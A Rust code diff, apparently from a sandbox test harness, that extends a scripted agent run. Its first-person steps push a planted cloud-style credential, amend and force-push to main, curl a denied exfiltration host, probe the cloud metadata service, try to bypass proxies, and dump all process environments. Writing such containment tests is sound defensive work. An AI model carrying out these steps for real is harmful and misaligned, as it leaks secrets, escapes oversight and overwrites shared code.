@@ -21,19 +21,25 @@ pub(crate) const LAST_WORDS: &str = "The discount was taken as an amount; it is 
 pub(crate) mod step {
     pub(crate) const TEST_FAILS: usize = 1;
     pub(crate) const TEST_PASSES: usize = 4;
-    pub(crate) const DENIED_HOST: usize = 6;
-    pub(crate) const METADATA: usize = 7;
-    pub(crate) const WAYS_OUT: usize = 8;
-    pub(crate) const ENVIRONMENT: usize = 9;
+    pub(crate) const PUSH_REFUSED: usize = 6;
+    pub(crate) const PUSH_ARRIVES: usize = 7;
+    pub(crate) const PUSH_ELSEWHERE: usize = 8;
+    pub(crate) const DENIED_HOST: usize = 9;
+    pub(crate) const METADATA: usize = 10;
+    pub(crate) const WAYS_OUT: usize = 11;
+    pub(crate) const ENVIRONMENT: usize = 12;
 }
 
-const NAMES: [&str; 10] = [
-    "commits what it was given",
+const NAMES: [&str; 13] = [
+    "looks at its clone",
     "runs the tests",
     "reads",
     "edits",
     "runs the tests again",
     "commits the fix",
+    "pushes a credential",
+    "amends, and pushes",
+    "pushes to main, and by force",
     "tries a host not allowed",
     "tries the metadata service",
     "tries to go round the proxies",
@@ -71,6 +77,19 @@ for name, address, port in ways:
         print(f"{name} {address}:{port}: {fault}")
 END"#;
 
+/// A key's name in a cloud's form, put together when it runs: nothing on the way shall blank it.
+const PUSH_CREDENTIAL: &str = "printf 'key_id = AKIA%s\\n' Q3EGRIZ5TL2WXPVY > deploy.ini && \
+    echo 'Discounts are percentages.' > NOTES.md && git add --all && \
+    git commit --quiet --message 'Note how discounts work' && git push origin HEAD 2>&1";
+
+const PUSH_AMENDED: &str = "git rm --quiet --force deploy.ini && \
+    git commit --quiet --amend --message 'Note how discounts work' && \
+    git push --quiet origin HEAD 2>&1 && git rev-parse HEAD";
+
+/// Both must fail, and the step fails with them.
+const PUSH_ELSEWHERE: &str = "git push origin HEAD:main 2>&1; \
+    git push --force origin HEAD~1:refs/heads/main 2>&1";
+
 /// Every process the agent can see, with the environment it was started with.
 const ENVIRONMENT: &str = "env | sort; for file in /proc/[0-9]*/environ; do \
     tr '\\0' '\\n' <\"$file\" 2>/dev/null; done | sort -u";
@@ -83,9 +102,8 @@ pub(crate) fn write(host_port: u16, nonce: &str) -> Value {
         .replace("NONCE", nonce);
     json!([
         bash(
-            "First I note how the project came to me.",
-            "git init --quiet && git add --all && git commit --quiet --message 'The project as it \
-             came' && git log --oneline",
+            "First I look at how the project came to me.",
+            "git remote --verbose && git branch --show-current && git log --oneline",
         ),
         bash("Now the tests.", "python3 -m unittest 2>&1"),
         {
@@ -109,6 +127,9 @@ pub(crate) fn write(host_port: u16, nonce: &str) -> Value {
             "git add --all && git commit --quiet --message 'Take the discount as a percentage' && \
              git show --stat --format='%h %an: %s' HEAD",
         ),
+        bash("Now I push, with a credential that slipped in.", PUSH_CREDENTIAL),
+        bash("Refused. I take it out of the commit, and push again.", PUSH_AMENDED),
+        bash("What of the main branch, and of force?", PUSH_ELSEWHERE),
         bash(
             "Now I try to leave: first to a host that nobody allowed.",
             &format!("curl --silent --show-error --include --max-time 20 https://{DENIED_HOST}/{nonce}/agent"),
@@ -139,7 +160,7 @@ mod tests {
 
     #[test]
     fn an_id_tells_its_step() {
-        assert_eq!(step_of("toolu_work_7_0"), Some(step::METADATA));
+        assert_eq!(step_of("toolu_work_10_0"), Some(step::METADATA));
         assert_eq!(name_of(3), Some("edits"));
         assert_eq!(step_of("toolu_01ABC"), None);
     }
@@ -150,12 +171,15 @@ mod tests {
         let command = |step: usize| {
             script[step]["tools"][0]["input"]["command"].as_str().unwrap_or_default().to_owned()
         };
-        assert!(command(0).contains("git init"));
+        assert!(command(0).contains("git log"));
         assert!(command(step::TEST_FAILS).contains("unittest"));
         assert_eq!(script[2]["tools"][0]["name"], "Read");
         assert_eq!(script[3]["tools"][0]["name"], "Edit");
         assert!(command(step::TEST_PASSES).contains("unittest"));
         assert!(command(5).contains("git commit"));
+        assert!(command(step::PUSH_REFUSED).contains("deploy.ini"));
+        assert!(command(step::PUSH_ARRIVES).contains("--amend"));
+        assert!(command(step::PUSH_ELSEWHERE).contains("--force"));
         assert!(command(step::DENIED_HOST).contains("https://exfil.example.com/n0nce/agent"));
         assert!(command(step::METADATA).contains("http://169.254.169.254/"));
         assert!(command(step::WAYS_OUT).contains("\"{{gateway}}\", 4000"));
